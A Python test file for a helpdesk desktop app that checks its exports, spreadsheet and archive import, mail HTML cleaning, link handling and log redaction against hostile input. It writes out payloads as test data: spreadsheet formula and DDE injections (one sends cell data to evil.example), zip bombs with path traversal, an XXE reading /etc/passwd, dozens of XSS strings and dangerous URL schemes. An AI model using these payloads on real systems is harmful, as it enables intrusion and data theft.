"""Files, pages and links made to do harm, and what must never reach a file of ours: formulas in every export, archives
and tables that swell, every known way of a page to fetch or run, links with hostile words, secrets in logs.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import re
import struct
import time
import tracemalloc
import zipfile
from collections.abc import Callable, Iterator
from datetime import date
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from deskapp.commands import opening
from deskapp.core import crash, log
from deskapp.core.errors import UserFacingError
from deskapp.core.paths import Profile
from deskapp.desk import customers, exporting, figures, intake, report_files, reports, setup, sheets, stock, work
from deskapp.desk.desk import Desk
from deskapp.models.schema import Ticket
from deskapp.sync.hub import commands
from deskapp.sync.hub.hub import HubRefused, HubUnreachable
from deskapp.sync.mail import msg, stages, tnef
from deskapp.sync.mail.sanitise import safe_html
from tests.desk.world import furnish, open_world

SECRET = "Zauberwort-7781"
UTC_ZONE = ZoneInfo("UTC")


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[Desk]:
    furnish(Profile(tmp_path / "desk"))
    desk = open_world(tmp_path / "desk")
    yield desk
    desk.replica.disconnect()


# --- formulas


FORMULAS = ("=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "－2", "＋3", "＠x",
            "=HYPERLINK(\"http://evil.example?\"&A1)", "=cmd|' /C calc'!A0", "a;=1+1", "a;\t@x")  # fmt: skip
_BEGINS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_NUMBER = re.compile(r"-?\d+(\.\d+)?(e[+-]\d+)?")


def fill(desk: Desk) -> None:
    """Formulas wherever somebody from outside or a colleague can put words."""
    for place, evil in enumerate(FORMULAS):
        made = intake.by_hand(desk, evil, evil, contact_name=evil, address=f"{place}@x.example", customer=evil)
        work.note(desk, str(made.result), "note", evil, 10)
        setup.save_cause(desk, {"name": evil, "name_en": evil})
        setup.save_specialist(desk, {"name": evil, "name_en": evil, "signature": evil})
        stock.save_part(desk, {"name": evil, "code": evil, "unit": evil})
        customers.save(desk, {"name": f"{evil} {place}", "note": evil})
        with desk.act("") as act:
            act.update(Ticket, str(made.result), cause_id="", product=evil, owner_id="anna")


def _harmless(cell: str, inside: bool = True) -> bool:
    if _NUMBER.fullmatch(cell):
        return True
    return not cell.startswith(_BEGINS) and not (inside and re.search(r"[;\t]\s*[=+@-]", cell))


def test_no_table_that_leaves_holds_a_formula(desk: Desk, tmp_path: Path) -> None:
    """Every report as CSV and XLSX, and every table of the whole desk, as files and as an archive."""
    fill(desk)
    period = figures.Period(date(2026, 10, 1), date(2026, 12, 31))
    pages = []
    for code in reports.REPORTS:
        table = reports.read(desk, code, period)
        rows = tuple(tuple(row) for row in table.rows)
        rows += tuple((evil,) * len(table.columns) for evil in FORMULAS)  # whatever a report comes to hold
        pages.append(report_files.Sheet(FORMULAS[0], tuple(FORMULAS[: len(table.columns)]),
                                        ("text",) * len(table.columns), rows))  # fmt: skip
    for page in pages:
        text = report_files.as_csv(page, UTC_ZONE).decode("utf-8-sig")
        wrong = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row if not _harmless(cell)]
        assert wrong == []
    book = zipfile.ZipFile(io.BytesIO(report_files.as_xlsx(pages, UTC_ZONE)))
    for name in (name for name in book.namelist() if name.startswith(("xl/worksheets/", "xl/_rels/"))):
        content = book.read(name).lower()
        assert not any(sign in content for sign in (b"<f>", b"<f ", b"<hyperlink", b"externallink", b"vba")), name
    for target in (tmp_path / "out", tmp_path / "out.zip"):
        exporting.write(desk, target)
    for path in sorted((tmp_path / "out" / "tables").iterdir()):
        for row in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
            assert [cell for cell in row if not _harmless(cell, inside=False)] == [], path.name
    names = {name for name in zipfile.ZipFile(tmp_path / "out.zip").namelist() if name.endswith(".csv")}
    assert names == {f"tables/{path.name}" for path in (tmp_path / "out" / "tables").iterdir()}


def test_every_writer_of_tables_is_known_here() -> None:
    """A new file that writes CSV or a workbook has to pass the test above."""
    root = Path(exporting.__file__).resolve().parent.parent
    writers = {
        path.name
        for path in root.rglob("*.py")
        if re.search(r"csv\.(writer|DictWriter)|xlsxwriter\.|Workbook\(", path.read_text("utf-8"))
    }
    assert writers == {"report_files.py", "exporting.py"}


# --- archives and tables that swell


def packed(entries: dict[str, bytes | str]) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return held.getvalue()


def sheet(cells: str, strings: str = "") -> bytes:
    office = "http://schemas.openxmlformats.org"
    main, rels = f"{office}/spreadsheetml/2006/main", f"{office}/package/2006/relationships"
    kind = f"{office}/officeDocument/2006/relationships"
    types = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    return packed({
        "[Content_Types].xml": f'<Types xmlns="{office}/package/2006/content-types"><Default Extension="rels" '
        f'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
        f'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="{types}.sheet.main+xml"/>'
        "</Types>",
        "_rels/.rels": f'<Relationships xmlns="{rels}"><Relationship Id="r1" Type="{kind}/officeDocument" '
        'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{kind}"><sheets><sheet name="S" sheetId="1" r:id="r1"/>'
        "</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{rels}"><Relationship Id="r1" Type="{kind}/worksheet" '
        f'Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="{kind}/sharedStrings" '
        'Target="sharedStrings.xml"/></Relationships>',
        "xl/sharedStrings.xml": f'<sst xmlns="{main}">{strings}</sst>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>{cells}</sheetData></worksheet>',
    })  # fmt: skip


def opendocument(rows: str, dtd: str = "") -> bytes:
    names = " ".join(f'xmlns:{short}="urn:oasis:names:tc:opendocument:xmlns:{short}:1.0"'
                     for short in ("office", "table", "text"))  # fmt: skip
    return packed({
        "mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "META-INF/manifest.xml": '<m:manifest xmlns:m="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        "content.xml": f'<?xml version="1.0"?>{dtd}<office:document-content {names}><office:body><office:spreadsheet>'
        f'<table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body>'
        "</office:document-content>",
    })  # fmt: skip


def ods_row(text: str = "x", rows: int = 1, columns: int = 1) -> str:
    return (
        f'<table:table-row table:number-rows-repeated="{rows}"><table:table-cell office:value-type="string" '
        f'table:number-columns-repeated="{columns}"><text:p>{text}</text:p></table:table-cell></table:table-row>'
    )


SWELLING: dict[str, Callable[[], bytes]] = {
    "far.xlsx": lambda: sheet('<row r="1"><c r="A1"><v>1</v></c></row><row r="9"><c r="XFD1048576"><v>1</v></c></row>'),
    "far row.xlsx": lambda: sheet('<row r="1"><c r="CZ1"><v>1</v></c></row><row r="1048576"><c><v>1</v></c></row>'),
    "blanks.xlsx": lambda: sheet(f'<row r="1"><c r{" " * 3_000_000}="XFD1048576"><v>1</v></c></row>'),
    "one long text.xlsx": lambda: sheet(
        "".join(f'<row r="{n}"><c t="s"><v>0</v></c></row>' for n in range(1, 30_000)),
        f"<si><t>{'x' * 30_000}</t></si>",
    ),
    "no tags.xlsx": lambda: sheet("<!--" + "x" * (5 << 20)),
    "rows.ods": lambda: opendocument(ods_row(rows=1_000_000, columns=90)),
    "columns.ods": lambda: opendocument(ods_row(columns=999_999_999)),
    "text.ods": lambda: opendocument(ods_row("x" * 100_000, rows=10_000)),
    "many.ods": lambda: opendocument(ods_row(rows=1_000, columns=1_000) * 40),
}  # fmt: skip


@pytest.mark.parametrize("name", SWELLING)
def test_a_spreadsheet_that_swells_is_refused_before_it_is_read(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(SWELLING[name]())
    assert path.stat().st_size < 1_000_000
    began = time.process_time()
    tracemalloc.start()
    with pytest.raises(UserFacingError):
        sheets.read(path)
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - began < 5 and peak < 40_000_000


BILLION = (
    '<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">'
    '<!ENTITY x SYSTEM "file:///etc/passwd">]>'
)


def test_entities_in_a_table_unfold_to_nothing(tmp_path: Path) -> None:
    path = tmp_path / "e.ods"
    path.write_bytes(opendocument(ods_row("Name") + ods_row("&c;&x;"), BILLION))
    try:
        rows = list(sheets.read(path).rows())
    except UserFacingError:
        return
    assert "aaaaaaaaaa" * 3 not in str(rows) and "root:" not in str(rows)


def test_an_honest_spreadsheet_is_read(tmp_path: Path) -> None:
    """What LibreOffice and Excel write at the far ends of a sheet is no attack."""
    path = tmp_path / "a.ods"
    empty = '<table:table-cell table:number-columns-repeated="16383"/>'
    rest = f'<table:table-row table:number-rows-repeated="1048574">{empty}</table:table-row>'
    path.write_bytes(opendocument(ods_row("Name") + ods_row("Anna") + rest))
    assert sheets.read(path).heads == ("Name",)
    path = tmp_path / "a.xlsx"
    cells = '<row r="1"><c r="A1" t="s"><v>0</v></c></row><row r="2"><c r="A2" t="s"><v>1</v></c></row>'
    path.write_bytes(sheet(cells, "<si><t>Name</t></si><si><t>Anna</t></si>"))
    assert sheets.read(path).heads == ("Name",)


def _export(desk: Desk, folder: Path) -> Path:
    intake.by_hand(desk, "Printer", "silent")
    exporting.write(desk, folder)
    return folder


def _furnished(folder: Path) -> Desk:
    furnish(Profile(folder))
    return open_world(folder)


def test_an_exported_desk_with_pipes_links_and_bombs_is_not_taken_in(desk: Desk, tmp_path: Path) -> None:
    export = _export(desk, tmp_path / "out")
    fresh = _furnished(tmp_path / "fresh")
    tickets = export / "tables" / "ticket.csv"
    good = tickets.read_text("utf-8-sig")
    heads, row = good.split("\n")[:2]
    columns = heads.strip().split(",")
    try:

        def refused() -> None:
            with pytest.raises(UserFacingError):
                exporting.read(fresh, export)
            assert fresh.replica.value("SELECT count(*) FROM ticket") == 0

        def cells(**changed: str) -> None:
            values = next(csv.reader([row]))
            for name, text in changed.items():
                values[columns.index(name)] = text
            out = io.StringIO()
            csv.writer(out).writerows([columns, values])
            tickets.write_text(out.getvalue(), "utf-8-sig")

        for changed in ({"received_at": "9" * 400}, {"number": "soon"}, {"received_at": "1e400"}):
            cells(**changed)
            refused()
        tickets.write_text(good + "a," * 3 + "\n", "utf-8-sig")
        refused()
        calendars = export / "tables" / "work_calendar.csv"
        kept = calendars.read_text("utf-8-sig")
        for wrong in ("[" * 100_000, "{", "soon"):
            lines = list(csv.reader(io.StringIO(kept)))
            lines[1][lines[0].index("week")] = wrong
            out = io.StringIO()
            csv.writer(out).writerows(lines)
            calendars.write_text(out.getvalue(), "utf-8-sig")
            refused()
        calendars.write_text(kept, "utf-8-sig")
        tickets.write_text(good, "utf-8-sig")
        evil = export / "files" / ("ab" * 32)
        evil.parent.mkdir(exist_ok=True)
        evil.write_bytes(b"not what its name says")
        refused()
        evil.unlink()
        if os.name == "posix":
            evil.symlink_to("/etc/passwd")  # left out: a link is no file of the desk
            os.mkfifo(export / "files" / ("cd" * 32))
            tickets.unlink()
            os.mkfifo(tickets)
            refused()
            tickets.unlink()
            tickets.symlink_to("/dev/zero")
            refused()
            tickets.unlink()
        bomb = tmp_path / "bomb.zip"
        with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as archive:
            for path in (path for path in export.rglob("*") if path.is_file() and not path.is_symlink()):
                archive.write(path, path.relative_to(export))
            archive.writestr("../../../outside", "x")
            archive.writestr("files/../../outside", "x")
        raw = bytearray(bomb.read_bytes())
        at = raw.rfind(b"PK\x01\x02")
        struct.pack_into("<I", raw, at + 24, 0xFFFF_FFFE)  # says that it unpacks to four gigabytes
        bomb.write_bytes(raw)
        with pytest.raises(UserFacingError):
            exporting.read(fresh, bomb)
        assert not list(tmp_path.rglob("outside"))
    finally:
        fresh.replica.disconnect()


# --- letters packed by Outlook that claim gigabytes


def _tnef(*attributes: tuple[int, int, bytes]) -> bytes:
    body = b"".join(struct.pack("<BHHI", 2, name, 6, length) + value + b"\0\0" for name, length, value in attributes)
    return struct.pack("<IH", 0x223E9F78, 1) + body


def test_outlook_files_that_claim_gigabytes_take_none() -> None:
    huge = 0xFFFF_FFF0
    props = struct.pack("<IHHI", 0xFFFF_FFFF, 0x101E, 0x3001, 0xFFFF_FFFF) + struct.pack("<I", 0) * 200_000
    box = bytearray(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 16 + struct.pack("<HHHHH", 62, 3, 0xFFFE, 9, 6))
    box += b"\0" * 6 + struct.pack("<IIIIIIIII", 0, 0xFFFFFF, 0, 0, 4096, 0, 0xFFFFFF, 0, 0xFFFFFF)
    box += struct.pack("<I", 0) * 109 + b"\xff" * 4096
    began = time.process_time()
    tracemalloc.start()
    for data in (
        _tnef((0x9002, 0, b""), (0x800F, huge, b"short")),
        _tnef((0x9003, len(props), props)),
        _tnef(*[(0x9002, 0, b"")] * 50_000),
        _tnef((0x9003, 20, struct.pack("<IHHI", 9, 0x0102, 0x3701, huge) + b"\0" * 8)),
        _tnef((0x9003, 24, struct.pack("<IHH", 9, 0x001E, 0x8001) + b"\0" * 12 + struct.pack("<I", 1))),
    ):
        found = tnef.unpack(data)
        assert found is not None and sum(len(content) for _n, _k, content in found.files) <= len(data)
    for data in (bytes(box), bytes(box[:512]), bytes(box[:600])):
        saved = msg.read(data)
        assert saved is None or not saved.files
    _now, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert time.process_time() - began < 5 and peak < 60_000_000


# --- every known way of a page to fetch or to run


PAGES = (
    "<img src=x onerror=E>", "<IMG SRC=//evil OnErRoR=E>", "<img/src='//evil'/onload=E>", "<img src=`//evil`>",
    "<im\0g src=//evil o\0nerror=E>", "<img srcset='//evil 1x'>", "<picture><source srcset=//evil><img></picture>",
    "<p style='background:url(//evil)'>", "<p style='background:\\75rl(//evil)'>",
    "<p style='background:u/**/rl(//evil)'>",
    "<p style='width:expression(E)'>", "<p style='behavior:url(//evil)'>", "<p style='-moz-binding:url(//evil)'>",
    "<p style=\"list-style-image: image-set('//evil' 1x)\">", "<p style='border-image:URL( //evil )'>",
    "<p style='content:url(//evil);position:fixed;top:0'>",
    "<p style='color:red;background-color:var(--x,url(//evil))'>",
    "<style>@import '//evil';p{background:url(//evil)}</style>", "<svg onload=E><image href=//evil /></svg>",
    "<svg><script>E</script></svg>", "<svg><use href='data:image/svg+xml,<svg onload=E>'/></svg>",
    "<svg><animate attributeName=href values=javascript:E /></svg>", "<svg><foreignObject><iframe src=//evil>",
    "<math><mtext><table><mglyph><style><img src=x onerror=E>", "<meta http-equiv=refresh content='0;url=//evil'>",
    "<base href='//evil/'>", "<link rel=stylesheet href=//evil>", "<link rel=prefetch href=//evil>",
    "<form action=//evil><button formaction=//evil>press</button><input autofocus onfocus=E></form>",
    "<iframe src=//evil></iframe>", "<iframe srcdoc='<script>E</script>'></iframe>", "<frameset><frame src=//evil>",
    "<object data=//evil><param name=movie value=//evil></object>", "<embed src=//evil>",
    "<applet code=E archive=//evil>",
    "<audio src=//evil autoplay>", "<video poster=//evil><track src=//evil></video>", "<bgsound src=//evil>",
    "<body background=//evil onload=E>", "<table background=//evil><td background=//evil>x</table>",
    "<a href='javascript:E'>x</a>", "<a href='JaVa\tScRiPt:E'>x</a>", "<a href='&#106;avascript:E'>x</a>",
    "<a href=' \x01javascript:E'>x</a>", "<a href='vbscript:E'>x</a>",
    "<a href='data:text/html,<script>E</script>'>x</a>",
    "<a href='file:///etc/passwd'>x</a>", "<a href='\\\\evil\\share'>x</a>", "<a href='mhtml:http://evil!x'>x</a>",
    "<a href='deskapp:call/112'>x</a>", "<a href='ms-msdt:/id PCWDiagnostic'>x</a>",
    "<a href='search-ms:query=x'>x</a>",
    "<a href=http://ok.example ping=//evil onclick=E target=_top>x</a>",
    "<img src='data:image/svg+xml,<svg onload=E>'>",
    "<img src='file:///etc/passwd'>", "<img src='\\\\evil\\x.png'>", "<img src='cid:x\" onerror=\"E'>",
    "<script>E</script>", "<scr<script>ipt>E</scr</script>ipt>", "<ScRiPt/x>E</sCrIpT\n>",
    "<noscript><p title='</noscript><img src=x onerror=E>'>",
    "<textarea></textarea><img src=x onerror=E>", "<xml id=x src=//evil>", "<?xml-stylesheet href='//evil'?>",
    "<!--[if IE]><script>E</script><![endif]-->", "<!DOCTYPE html SYSTEM '//evil'>",
    "<template><img src=x onerror=E></template>",
    "<details open ontoggle=E>", "<marquee onstart=E>", "<isindex action=//evil>", "<keygen autofocus onfocus=E>",
    "<p style='color:red\0;background:url(//evil)'>", "<p id=x class=y data-x=z contenteditable>",
    "<slot onslotchange=E>",
)  # fmt: skip
_KNOWN_TAGS = re.compile(r"</?(?!(?:a|b|br|center|div|img|p|span|table|tbody|td|tr)\b)[a-z]", re.IGNORECASE)


@pytest.mark.parametrize("page", PAGES)
def test_no_page_fetches_or_runs_anything(page: str) -> None:
    clean = safe_html(f"<div>before{page}</div><p>after</p>", {"x": "deskfile:x"})
    bare = clean.lower().replace("\0", "")
    assert not _KNOWN_TAGS.search(clean), clean
    assert not re.search(
        r"<[^>]*\s(on\w+|srcset|background|action|formaction|ping|target|data|poster|id|class)\s*=", bare
    )
    assert not re.search(r"<[^>]*(url|expression|image-set)\s*\(", bare), clean
    for link in re.findall(r'(?:href|src)="([^"]*)"', bare):
        assert re.match(r"(https?:|mailto:|tel:|deskfile:x$)", link), link
    assert ("position" not in bare and "after" in bare) or "<" in page


ENDLESS = (
    "<div>" * 400_000, "<ul><li>" * 200_000, "<b><i>" * 200_000, "<table><tr><td>" * 30_000, "<a href='" * 200_000,
    "&#" * 900_000, "&" * 1_900_000, "&a" * 900_000, "&lt;script>" * 150_000, "<svg>" * 300_000, "<!--" * 400_000,
    "<p style='" + "color:red;" * 100_000 + "'>", ("<div>" * 990 + "</div>" * 990) * 100,
)  # fmt: skip


@pytest.mark.parametrize("page", ENDLESS, ids=lambda page: page[:12])
def test_a_page_without_end_is_cleaned_in_time(page: str) -> None:
    """By the processor's time. What no program writes is shown as its text, without tags that could nest."""
    began = time.process_time()
    clean = safe_html(page + "<p>behind</p>", {})
    assert time.process_time() - began < 4
    assert "<script" not in clean.lower()


# --- links that the system hands over


LINKS = ("deskapp:" + "9" * 5_000, "deskapp:ticket/" + "9" * 5_000, "deskapp:ticket/-1", "deskapp:ticket/1;close",
         "deskapp:close/4117", "deskapp:send", "deskapp:../../x", "deskapp:%00", "deskapp:ticket/٣", "deskapp://[",
         "file://[", "file:///\0", "mailto", "--profile=/tmp/evil", "-c")  # fmt: skip


@pytest.mark.parametrize("link", LINKS)
def test_a_hostile_link_is_refused_with_words(link: str) -> None:
    with pytest.raises(UserFacingError):
        opening.word(link)


def test_a_link_only_shows_and_prefills() -> None:
    said = opening.word("mailto:a@b.example?subject=x%26body=sent&body=rm%20-rf&cc=all@x.example&attach=/etc/passwd")
    assert said == "new:address=a%40b.example&subject=x%26body%3Dsent&body=rm%20-rf"
    assert opening.word("deskapp:call/%2b7;DROP TABLE x") == "call:+7"
    assert opening.word("mailto:[?subject=" + "x" * 50).startswith("new:address=%5B&subject=xxx")
    assert opening.word("mailto:a@b.example%0d%0aBcc:evil@x.example").startswith("new:address=a%40b.example%0D%0ABcc")
    kinds = {"raise", "ticket", "new", "call", "letter"}
    for link in ("", "deskapp:4117", "deskapp:ticket/1", "deskapp:new", "deskapp:call", "mailto:x@y.example"):
        assert opening.word(link).partition(":")[0] in kinds


# --- secrets and letters in every place where one can be


def test_a_secret_in_any_place_reaches_no_log_and_no_report(desk: Desk) -> None:
    log.start(desk.profile.log, logging.DEBUG)
    texts: list[str] = []
    try:
        for name in ("exchangelib.transport", "urllib3.connectionpool", "imaplib", "msal", "smtplib", "requests", "x"):
            logging.getLogger(name).error("Authorization: %s of %r", SECRET, {"password": SECRET})
        try:
            try:
                raise KeyError(SECRET)
            except KeyError as error:
                raise ValueError(f"{SECRET} in '{SECRET}'") from error
        except ValueError as error:
            error.add_note(SECRET)
            logging.getLogger("deskapp.trial").exception("a step failed")
            texts.append(crash.report(error, "mail").text)
        for trouble in (
            OSError(2, SECRET, f"/home/{SECRET}"), UnicodeDecodeError("utf-8", SECRET.encode(), 0, 1, SECRET),
            json.JSONDecodeError(SECRET, SECRET, 0), ExceptionGroup(SECRET, [ValueError(SECRET)]),
            StopIteration(SECRET),
            type("Odd", (Exception,), {"__str__": lambda self: SECRET, "__repr__": lambda self: SECRET})(),
            TypeError(f"f() got an unexpected keyword argument '{SECRET} x'"), AttributeError(f"has no '{SECRET}!'"),
        ):  # fmt: skip
            try:
                raise trouble
            except Exception as error:
                logging.getLogger("deskapp").warning("failed", exc_info=True)
                texts.append(crash.report(error).text)
        for place in (f"postgresql://user:{SECRET}@127.0.0.1:1/desk", f"postgresql://127.0.0.1:1/d?password={SECRET}"):
            try:
                commands.connect(place)
            except (HubRefused, HubUnreachable, UserFacingError) as error:
                texts += [error.heading(), error.filled(), crash.report(error).text]
        raw = (
            f"From: {SECRET}@b.example\r\nSubject: {SECRET}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; "
            f'boundary="b"\r\n\r\n--b\r\nContent-Type: text/html; charset={SECRET}\r\n\r\n<p>{SECRET}\r\n--b\r\n'
            f'Content-Type: application/zip; name="{SECRET}.zip"\r\n\r\nPK\x03\x04{SECRET}\r\n--b--'
        ).encode()
        stages.take(desk, raw, SECRET)
    finally:
        for handler in logging.getLogger().handlers:
            handler.flush()
    assert [text for text in texts if SECRET in text] == []
    written = b"".join(path.read_bytes() for path in desk.profile.log.rglob("*") if path.is_file())
    assert b"a step failed" in written and b"Authorization: %s" in written
    assert SECRET.encode() not in written
